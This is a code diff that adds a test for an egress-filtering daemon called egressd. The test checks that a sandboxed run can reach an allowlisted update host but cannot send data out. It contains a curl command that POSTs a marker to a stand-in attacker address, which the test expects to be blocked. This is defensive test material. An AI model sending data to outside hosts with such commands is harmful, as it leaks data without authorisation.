@@ -222,3 +222,26 @@ def test_published_port_reaches_container(hostlab):
     p = curl(hostlab, ns, "http://%s/" % L.ATTACKER4, "--data", MARK)
     assert p.returncode != 0
     hostlab.assert_attacker_got_nothing()
+
+
+def test_egressd_run_under_host_mode(hostlab):
+    """`egressd run` builds a veth too: under a host-mode egressd its
+    traffic is decided by the run's own table and daemon (two verdicts on one
+    packet would overwrite each other's marks), and it still works."""
+    hostlab.start_egressd()
+    env = dict(os.environ, EGRESSD_RUN_NET="192.0.2.0",
+               EGRESSD_PRESET_DIR=os.path.join(L.REPO, "config", "presets"))
+    for k in ("SUDO_UID", "SUDO_GID", "SUDO_USER", "SUDO_COMMAND", "EGRESSD_USER"):
+        env.pop(k, None)
+    log = os.path.join(hostlab.dir, "run.jsonl")
+    script = ("curl -sS --noproxy '*' --cacert %s --max-time 5 https://updates.example.com/file;"
+              " curl -sS --max-time 3 -d %s http://%s/ && exit 9; exit 0"
+              % (hostlab.ca["ca"], MARK, L.ATTACKER4))
+    p = hostlab.ns_run(hostlab.hst, [L.egressd_bin(), "run", "--allow", "updates.example.com",
+                                     "--log", log, "--", "sh", "-c", script],
+                       timeout=20, env=env)
+    hostlab.note_stderr("egressd run", p.stderr)
+    assert p.returncode == 0, (p.returncode, p.stdout, p.stderr)
+    assert p.stdout == L.site_body("updates"), (p.stdout, p.stderr)
+    hostlab.assert_attacker_got_nothing()
+    assert hostlab.egressd.running()
